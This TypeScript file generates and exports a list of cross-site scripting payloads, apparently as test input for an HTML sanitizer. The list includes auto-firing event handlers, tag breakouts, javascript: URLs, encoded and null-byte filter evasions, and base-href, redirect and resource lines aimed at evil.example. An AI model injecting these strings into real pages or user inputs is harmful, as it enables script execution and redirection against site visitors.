const call = 'alert(1)';

/** Elements that run what one of their attributes says, by themselves or once they are met. */
const events: [element: string, attribute: string][] = [
  ['img src=x', 'onerror'],
  ['img src=x:x', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['div style="animation-name:x"', 'onanimationstart'],
  ['a href=# autofocus tabindex=1', 'onfocusin'],
  ['x contenteditable autofocus', 'onfocus'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['image src=x', 'onerror'],
  ['dialog open', 'onclose'],
];

const byEvent = events.flatMap(([element, attribute]) => [
  `<${element} ${attribute}=${call}>`,
  `"><${element} ${attribute}="${call}">`,
  `'><${element.toUpperCase().replace(/ .*/, '')}/${attribute}=${call}//`,
]);

const others = [
  ...[`<script>${call}</script>`, `</script><script>${call}</script>`, `<ScRiPt>${call}</sCrIpT>`],
  ...[`</title><script>${call}</script>`, `</textarea><script>${call}</script>`],
  ...[
    `--><script>${call}</script>`,
    `]]><script>${call}</script>`,
    `<scr<script>ipt>${call}</script>`,
  ],
  ...[
    `javascript:${call}`,
    `" autofocus onfocus="${call}`,
    `' onmouseover='${call}`,
    `\`;${call};//`,
  ],
  ...[`<a href="javascript:${call}">x</a>`, `<form action="javascript:${call}"><button>x</button>`],
  ...[`<iframe srcdoc="<script>${call}</script>">`, `<iframe src="javascript:${call}">`],
  ...[`<embed src="javascript:${call}">`, `<base href="https://evil.example/">`],
  ...['<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ...[
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="https://evil.example/x">',
  ],
  ...[
    `<svg><script>${call}</script></svg>`,
    `<math><mtext><script>${call}</script></mtext></math>`,
  ],
  ...[
    `<template><script>${call}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  ],
  ...[`{{constructor.constructor('${call}')()}}`, `\u003cscript\u003e${call}\u003c/script\u003e`],
  ...[
    `%3Cscript%3E${call}%3C/script%3E`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
    `\\x3cscript\\x3e${call}`,
  ],
  ...[
    `\ufeff<script>${call}</script>`,
    `<script\u0000>${call}</script>`,
    `<\u0000script>${call}</script>`,
  ],
];

/** What a browser would run if it were taken for a part of a page. */
export const scripts: readonly string[] = [...byEvent, ...others];
